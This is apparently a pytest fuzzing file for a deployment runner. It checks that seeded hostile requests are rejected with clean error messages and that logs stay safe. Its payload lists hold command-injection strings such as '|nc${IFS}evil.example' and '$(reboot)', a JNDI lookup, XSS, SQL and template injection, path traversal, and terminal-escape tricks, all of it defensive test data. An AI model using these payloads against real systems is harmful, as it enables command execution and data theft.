"""10,000 malformed or hostile requests: each is refused by a rule and in its words, and none of its text goes further.

They are made from a seed, which a failure names: HOSTILE_SEED=N makes them from another.
"""

import copy
import io
import json
import os
import pickle
import random
import traceback
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import redirect_stdout
from dataclasses import dataclass, field
from typing import Any

import pytest

from deploy_runner.aws.clients import TargetClients
from deploy_runner.aws.running import Current
from deploy_runner.domain import errors
from deploy_runner.domain.allow import decide
from deploy_runner.domain.apps import load
from deploy_runner.domain.deployment import Execution, Installation, build_deployment
from deploy_runner.domain.request import parse_request
from deploy_runner.github.client import Check, ResolvedRef, WorkflowRun
from tests.unit.conftest import ENVIRONMENT, Context, environment
from tests.unit.fake_ecs import FakeEcs
from tests.unit.fake_github import SHA, FakeGitHub
from tests.unit.fake_history import DIGEST, GOOD, FakeHistory, FakeRunning
from tests.unit.test_rollback import Scheduler
from tests.unit.test_waits import Logs

__all__ = ["environment"]  # a fixture
COUNT = 10_000
SEED = int(os.environ.get("HOSTILE_SEED", "20260104"))
ALLOWLIST = load("""
version: 1
environments:
  dev: {account: "123456789012", region: us-east-1, cluster: dev, refs: {branches: ["**"]}, checks: [tests]}
  staging: {account: "123456789012", region: us-east-1, cluster: staging, refs: {branches: [main]}}
  prod: {account: "123456789012", region: us-east-1, cluster: prod, refs: {branches: [main]}, requesters: [octocat]}
  old: {account: "123456789012", region: us-east-1, cluster: old, refs: {branches: [main]}, freeze: holidays,
        emergency: [octocat]}
apps:
  cineos:
    repository: {name: lightwave-media/cineos, id: 1001}
    environments:
      dev: {services: {web: [app]}, release_command: [python, manage.py, migrate], scheduled_tasks: {nightly: [app]}}
      staging: {services: {web: [app]}}
      prod: {services: {web: [app]}}
      old: {services: {web: [app]}}
""")
SOURCE = {"repository": "lightwave-media/cineos", "run_id": 7, "run_url": "https://github.example/run/7"}
COMMON = {"app": "cineos", "environment": "dev", "source": SOURCE, "requested_by": "octocat"}
VALID: dict[str, dict[str, Any]] = {
    "deploy": COMMON | {"action": "deploy", "ref": "main"},
    "build": COMMON | {"action": "build", "ref": SHA},
    "rollback": COMMON | {"action": "rollback", "deployment": "d-0", "exact": True},
    "promote": COMMON | {"action": "promote", "environment": "staging", "from": "dev", "emergency": False},
}

# What shells, terminals, loggers, templates, parsers, paths and people's eyes fall for. None is the name of anything.
UNPRINTABLE = [
    "\x1b[2J\x1b[31mroot", "\x9b31m", "\x07", "a\nb", 'main\r\n{"level":"ERROR","message":"forged"}', "main\n", "\x00",
    "main\x00.txt", "\x7f", "\x08" * 9, "\u202egnp.niam", "\u2066main\u2069", "ma\u200bin", "\u200fmain", "\ufeffmain",
    "main\u2028x", "main\u00a0", "soft\u00adhyphen", "\U000e0041", "\ud800", "\udfff\ud800", "\ue000",
]  # fmt: skip
PRINTABLE = [
    "$(reboot)", "`reboot`", ";reboot", "main;reboot", "|nc${IFS}evil.example", "&&id", "main>/etc/passwd", "'||'1",
    '"', "'; drop table apps;--", "${jndi:ldap://evil.example}", "%0a%0dx", "%s%n", "{% $states.input %}", "{%$x%}",
    "$.input", "$$.Execution.Input", "{{7*7}}", "<%=7*7%>", "<script>alert(1)</script>", "&lol9;", "!!python/object:os",
    "*anchor", "&a[*a,*a]", "{a: &b [*b]}", "../../etc/passwd", "..\\..\\x", "/etc/passwd", "a/../b", "file:///x",
    "-x", "--upload-pack=touch", "--", "-", ".", "..", "@", "@{u}", "x.lock", "a//b", "x^{}", "x~1", ":/x", "?", "[a",
    "__proto__", "constructor", "null", "true", "0", "-1", "1e999", "NaN", "undefined", "cine\u043es", "\uff43ineos",
    "e\u0301" * 20, "\U0001f389", "Ωmain", "refs/heads/", "refs/tags/../x", "~root", "main ", " main", "arn:x",
]  # fmt: skip
BAD_VALUES: list[Any] = [
    0, 1, -1, 7.5, True, False, 10**30, 10**5000, [], {}, ["main"], {"main": 1}, [[[[[[[[["deep"]]]]]]]]], "",
    {"__proto__": {"admin": True}}, {"$ref": "#"}, ["cineos", "cineos"],
]  # fmt: skip


def nested(depth: int) -> Any:
    value: Any = "deep"
    for level in range(depth):
        value = [value] if level % 2 else {"a": value}
    return value


def huge(rng: random.Random) -> Any:
    return rng.choice([
        lambda: "A" * 200_000, lambda: "\U0001f389" * 50_000, lambda: "\x1b[0m" * 30_000, lambda: nested(400),
        lambda: ["lol"] * 50_000, lambda: {str(n): n for n in range(5_000)},
    ])()  # fmt: skip


def text(rng: random.Random) -> str:
    """A hostile text, or one with hostile characters somewhere in it: none that could be the name of anything."""
    parts = rng.choices(UNPRINTABLE + PRINTABLE, k=rng.choice([1, 1, 2, 3]))
    kind = rng.randrange(4)
    if kind == 0:
        return "".join(parts)
    if kind == 1:
        return parts[0] * rng.randrange(2, 200)
    word = rng.choice(["main", "cineos", "release/1.2", "d-0", SHA])
    place = rng.randrange(len(word) + 1)
    return word[:place] + "".join(parts) + word[place:]


def unprintable(rng: random.Random) -> str:
    word = rng.choice(["main", "cineos", "octocat", SHA])
    place = rng.randrange(len(word) + 1)
    return word[:place] + "".join(rng.choices(UNPRINTABLE, k=rng.randrange(1, 4))) + word[place:]


def value(rng: random.Random) -> Any:
    """What is no text at all, or one that is far too long."""
    return huge(rng) if rng.random() < 0.02 else copy.deepcopy(rng.choice(BAD_VALUES))


@dataclass
class Case:
    """A request, and the words of each rule that may refuse it, by the rule's error."""

    request: Any
    rules: dict[str, str]


MALFORMED = "RequestMalformed"


def base(rng: random.Random, *actions: str) -> dict[str, Any]:
    request = copy.deepcopy(VALID[rng.choice(actions or tuple(VALID))])
    if rng.random() < 0.5:
        request["source"]["run_url"] += f"/attempts/{rng.randrange(10**6)}"
        request["requested_by"] = rng.choice(["octocat", "Octo Cat", "dependabot[bot]", "Zoë", "$(reboot)"])
    for key in ("source", "requested_by", "emergency"):
        if rng.random() < 0.1:
            request.pop(key, None)
    return request


def hostile_app(rng: random.Random) -> Case:
    near = ["cineo", "cineoss", "Cineos", "CINEOS", "cineos/", "cineos.", "cineos-dev", "cin\u0435os", "lightwave"]
    given = rng.choice([text(rng), rng.choice(near), value(rng)])
    return Case(
        base(rng) | {"app": given}, {MALFORMED: "app must", "AppNotAllowed": "An app must be listed in apps.yaml"}
    )


def hostile_environment(rng: random.Random) -> Case:
    given = rng.choice([text(rng), rng.choice(["Dev", "dev2", "de", "d\u0435v", "stage", "production"]), value(rng)])
    rules = {MALFORMED: "environment must", "EnvironmentNotAllowed": "must have the environment in apps.yaml"}
    return Case(base(rng) | {"environment": given}, rules)


def hostile_ref(rng: random.Random) -> Case:
    near = ["mai", "Main", "m\u0430in", SHA[:-1], SHA + "c", SHA.upper(), "f" * 40, "refs/heads/x", "refs/pull/1/merge"]
    given = rng.choice([text(rng), rng.choice(near), value(rng)])
    rules = {MALFORMED: "ref must", "RefNotFound": "The ref must be in lightwave-media/cineos"}
    return Case(base(rng, "deploy", "build") | {"ref": given}, rules)


def unsafe_ref(rng: random.Random) -> Case:
    """One that git would read as an option, a range, a path or a pattern: GitHub is never asked for it."""
    word, other = (rng.choice([*PRINTABLE, "main", "v1", SHA]) for _ in range(2))
    between = rng.choice(["..", "//", "@{", "~", "^", ":", "?", "*", "[", "\\", " ", "\t", "/.", ".lock/"])
    given = rng.choice([f"-{word}", f"--{word}={other}", f"{word}{between}{other}", f"/{word}", f"{word}/", f"{word}."])
    return Case(base(rng, "deploy", "build") | {"ref": given}, {MALFORMED: "ref must"})


def hostile_action(rng: random.Random) -> Case:
    near = ["Deploy", "deploy ", "destroy", "roll back", "deploy,build", "run"]
    given = rng.choice([text(rng), rng.choice(near), value(rng), None])
    return Case(base(rng) | {"action": given}, {MALFORMED: "action must be deploy, build, rollback or promote"})


def hostile_source(rng: random.Random) -> Case:
    if rng.random() < 0.3:
        return Case(base(rng) | {"source": rng.choice([text(rng), value(rng)])}, {MALFORMED: "source"})
    source: dict[str, Any] = dict(SOURCE)
    key = rng.choice(list(source))
    bad = {
        "repository": ["a/b/c", "/b", "a/", "-a/b", "a/.b", "https://github.example/a/b", "a b/c", "a" * 40 + "/b"],
        "run_id": ["0", "07", "7x", "7\n", "1" * 20, "-7", "٧", "7.0", 7.5, -7, 10**19, None],
        "run_url": [
            "javascript:alert(1)",
            "https://",
            "https://a b",
            "ftp://x",
            "https://x\x1b[2J",
            "//x",
            "https://é",
        ],
    }[key]
    source[key] = rng.choice([rng.choice(bad), unprintable(rng)])
    if rng.random() < 0.2:
        del source[key]
    elif rng.random() < 0.2:
        source = SOURCE | {text(rng): 1}
    return Case(base(rng) | {"source": source}, {MALFORMED: "source."})


def hostile_requested_by(rng: random.Random) -> Case:
    given = rng.choice([unprintable(rng), "é" * 101, 7, True, ["octocat"], {"login": "octocat"}, huge(rng)])
    return Case(base(rng) | {"requested_by": given}, {MALFORMED: "requested_by must"})


def hostile_deployment(rng: random.Random) -> Case:
    given = rng.choice([text(rng), "d-" * 41, "d.0", value(rng), f"d-{rng.randrange(1, 10**9)}"])
    rules = {MALFORMED: "deployment must be", "NothingToGoBackTo": "`deployment` must be one of cineos in dev that"}
    if not isinstance(given, str) or not given or len(given) > 80:
        rules = {MALFORMED: "deployment must"}
    return Case(base(rng, "rollback") | {"deployment": given}, rules)


def hostile_switch(rng: random.Random) -> Case:
    key, action = rng.choice([("exact", "rollback"), ("emergency", "deploy"), ("emergency", "promote")])
    given = rng.choice([text(rng), 0, 1, "true", "false", "yes", None, [], {}, [True], 1.0])
    return Case(base(rng, action) | {key: given}, {MALFORMED: f"{key} must be true or false, without quotes"})


def hostile_from(rng: random.Random) -> Case:
    given = rng.choice([text(rng), "Dev", "moon", "staging", value(rng)])
    return Case(
        base(rng, "promote") | {"from": given},
        {MALFORMED: "from must", "EnvironmentNotAllowed": "must have the environment in apps.yaml"},
    )


def unknown_key(rng: random.Random) -> Case:
    near = ["App", "apps", "env", "branch", "git_ref", "sha", "digest", "image", "command", "Ref", "from_", "target"]
    key: Any = rng.choice([text(rng), rng.choice(near), "__proto__", "x" * 50_000, 7, None, True, 1.5])
    words = "is not a known key"
    return Case(base(rng) | {key: rng.choice([1, "x", text(rng), {}])}, {MALFORMED: words})


def missing_key(rng: random.Random) -> Case:
    request = base(rng)
    needs = {"deploy": "ref", "build": "ref", "promote": "from"}
    key = rng.choice([k for k in ("app", "environment", needs.get(request["action"])) if k])
    del request[key]
    return Case(request, {MALFORMED: f"{key} is missing"})


def contradiction(rng: random.Random) -> Case:
    """One key of another action."""
    only = {"ref": "deploy build", "deployment": "rollback", "exact": "rollback", "from": "promote"}
    only["emergency"] = "deploy rollback promote"
    key = rng.choice(list(only))
    request = base(rng, *(action for action in VALID if action not in only[key].split()))
    values = {"ref": "main", "deployment": "d-0", "exact": rng.random() < 0.5, "from": "dev", "emergency": True}
    words = f"{key} must not be given with the action {request['action']}"
    return Case(request | {key: rng.choice([values[key], None, ""])}, {MALFORMED: words})


def no_object(rng: random.Random) -> Case:
    given = rng.choice([text(rng), value(rng), None, json.dumps(VALID["deploy"]), [VALID["deploy"]], nested(500)])
    if isinstance(given, dict):
        return Case(given, {MALFORMED: "is missing"})
    return Case(given, {MALFORMED: "The execution input must be a JSON object"})


def soup(rng: random.Random) -> Case:
    """Many things wrong at once; an unknown key at least."""
    request = base(rng)
    for key in rng.sample([*request, "ref", "from", "exact"], 4):
        request[key] = rng.choice([text(rng), value(rng)])
    return Case(request | {rng.choice(PRINTABLE): 1}, {MALFORMED: "is not a known key"})


def forbidden(rng: random.Random) -> Case:
    """Well-formed, and not allowed: a freeze, or somebody else's run."""
    frozen = {"EnvironmentFrozen": "cineos is frozen in old"}
    if rng.random() < 0.5:
        emergency: dict[str, Any] = rng.choice([{}, {"emergency": False}, {"emergency": True, "source": None}])
        request = base(rng, "deploy", "rollback") | {"environment": "old"} | emergency
        request.pop("deployment", None)
        return Case(request, frozen)
    other = {"run_id": rng.randrange(8, 10**18)}, {"repository": f"evil-{rng.randrange(10**6)}/cineos"}
    source = rng.choice([None, SOURCE | other[0], SOURCE | other[1]])
    return Case(base(rng, "deploy", "rollback") | {"environment": "prod", "source": source},
                {"RequesterNotAllowed": "cineos is deployed to prod only by octocat"})  # fmt: skip


KINDS: list[tuple[Callable[[random.Random], Case], int]] = [
    (hostile_app, 10), (hostile_environment, 10), (hostile_ref, 15), (unsafe_ref, 8), (hostile_action, 6),
    (hostile_source, 12),
    (hostile_requested_by, 5), (hostile_deployment, 8), (hostile_switch, 6), (hostile_from, 6), (unknown_key, 6),
    (missing_key, 3), (contradiction, 8), (no_object, 5), (soup, 4), (forbidden, 3),
]  # fmt: skip


def cases(seed: int, count: int) -> Iterator[Case]:
    """So many cases, no request twice."""
    rng = random.Random(seed)  # noqa: S311 - no secret
    kinds, weights = zip(*KINDS, strict=True)
    made: set[bytes] = set()
    while len(made) < count:
        case = rng.choices(kinds, weights)[0](rng)
        if (same := pickle.dumps(case.request)) not in made:
            made.add(same)
            yield case


@dataclass
class Facts:
    """GitHub's word, and how often it was asked. The only run is 7."""

    branches: dict[str, str] = field(default_factory=lambda: {"main": SHA})
    asked: int = 0

    def repository_id(self) -> int | None:
        self.asked += 1
        return 1001

    def resolve(self, ref: str) -> ResolvedRef | None:
        if ref in self.branches:
            return ResolvedRef("branch", ref, self.branches[ref])
        return ResolvedRef("commit", ref, ref) if ref == SHA else None

    def branch_containing(self, sha: str, globs: object) -> str | None:
        return "main" if sha == SHA else None

    def tags_at(self, sha: str) -> tuple[str, ...]:
        return ()

    def checks(self, sha: str) -> tuple[Check, ...]:
        return (Check("tests", "success"),)

    def run(self, run_id: int) -> WorkflowRun | None:
        return WorkflowRun(run_id, "octocat", SHA, "main", "push") if run_id == 7 else None


def accept(request: Any, facts: Facts) -> dict[str, Any]:
    """The deployment of a request, as validate_request makes it."""
    parsed = parse_request(request)
    history = FakeHistory({("cineos", place, "d-0"): GOOD for place in ("dev", "prod", "old")})
    running = FakeRunning({("cineos", "dev"): Current("d-0", SHA, DIGEST)})
    accepted = decide(ALLOWLIST, parsed, facts, history, running)
    execution = Execution("arn:execution", "d-1", "2026-01-01T00:00:00Z")
    return build_deployment(parsed, accepted, execution, Installation.from_environment(ENVIRONMENT))


NEEDS_GITHUB = {"RefNotFound", "NothingToGoBackTo", "RequesterNotAllowed"}


def test_every_hostile_request_is_refused_by_a_rule_in_its_words_and_before_github_is_asked() -> None:
    for request in VALID.values():
        accept(request, Facts())  # what the others are a step away from
    seen: Counter[str] = Counter()
    for number, case in enumerate(cases(SEED, COUNT)):
        where = f"HOSTILE_SEED={SEED}, request {number}"
        facts = Facts()
        error = told = "accepted"
        try:
            accept(case.request, facts)
        except errors.RequestRejected as refused:
            error, told = type(refused).__name__, str(refused)
        assert error in case.rules, f"{where}: {error}: {told}"
        assert case.rules[error] in told, f"{where}: {told}"
        assert told.isprintable(), where
        assert len(told) < 1200, where
        assert facts.asked == 0 or error in NEEDS_GITHUB or case.request.get("emergency"), where
        seen[error] += 1
    assert seen.total() == COUNT
    rules = {"AppNotAllowed", "EnvironmentNotAllowed", "EnvironmentFrozen", MALFORMED} | NEEDS_GITHUB
    assert {error for error, times in seen.items() if times > 50} == rules


def test_the_text_of_an_accepted_request_reaches_no_argument_of_a_task() -> None:
    """GIVEN a branch that is called like a command WHEN it is deployed THEN only what people are shown names it."""
    plain, accepted = accept(VALID["deploy"], Facts()), 0
    for name in PRINTABLE:
        request = VALID["deploy"] | {
            "ref": name,
            "requested_by": name,
            "source": SOURCE | {"run_url": f"https://x/{name}"},
        }
        try:
            deployment = accept(request, Facts({name: SHA}))
        except errors.RequestMalformed:
            continue
        accepted += 1
        shown = {"ref": name, "requested_by": name, "source": deployment["source"]}
        assert deployment == plain | shown
    assert accepted > 10


def test_what_is_logged_of_hostile_requests_is_one_json_object_a_line(
    environment: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    """By the real function, for the same requests, and for accepted ones with text of their own."""
    import functions.github_app
    from functions.observability import logger
    from functions.validate_request import handler

    github, ecs, history, written = FakeGitHub(), FakeEcs(), FakeHistory(), io.StringIO()
    ecs.add_service("web", ecs.add_definition("web"))
    branches = [name for name in PRINTABLE if name.isascii()]
    github.branches |= dict.fromkeys(branches, SHA)
    monkeypatch.setattr(functions.github_app, "github", lambda repository_id=None: github)
    scheduler = Scheduler()
    scheduler.add("default/nightly", "td:1")
    clients = TargetClients(ecs, Logs(), lambda: scheduler)  # type: ignore[arg-type, return-value]
    monkeypatch.setattr(handler, "in_target", lambda target, session: clients)
    monkeypatch.setattr(handler, "allowlist", lambda: ALLOWLIST)
    monkeypatch.setattr(handler, "deployments", lambda: history)
    monkeypatch.setattr(logger.registered_handler, "stream", written)
    named = [Case(VALID["deploy"] | {"ref": name, "requested_by": name}, {}) for name in branches]
    execution = {"arn": "arn:execution", "name": "d-1", "started_at": "2026-01-01T00:00:00Z"}
    with redirect_stdout(written):
        for case in [*cases(SEED, 300), *named]:
            try:
                handler.lambda_handler({"request": case.request, "execution": execution}, Context())
            except errors.RequestRejected as refused:
                # What Lambda's runtime logs of an error: its name and its words.
                told = "".join(traceback.format_exception_only(refused))
                assert told.removesuffix("\n").isprintable(), ascii(case.request)[:500]
        rng = random.Random(SEED)  # noqa: S311
        for _ in range(50):
            with pytest.raises(errors.RequestMalformed, match="The execution's name must be"):
                handler.lambda_handler(
                    {"request": VALID["deploy"], "execution": execution | {"name": unprintable(rng)}}, Context()
                )
    lines = written.getvalue().splitlines(keepends=True)
    assert len(lines) > 300
    for line in lines:
        assert line.endswith("\n")
        assert line.removesuffix("\n").isprintable()
        assert isinstance(json.loads(line), dict)
    assert sum('"message":"accepted"' in line for line in lines) == len(history.accepted) > 10
    assert {deployment["ref"] for deployment in history.accepted} <= set(branches)
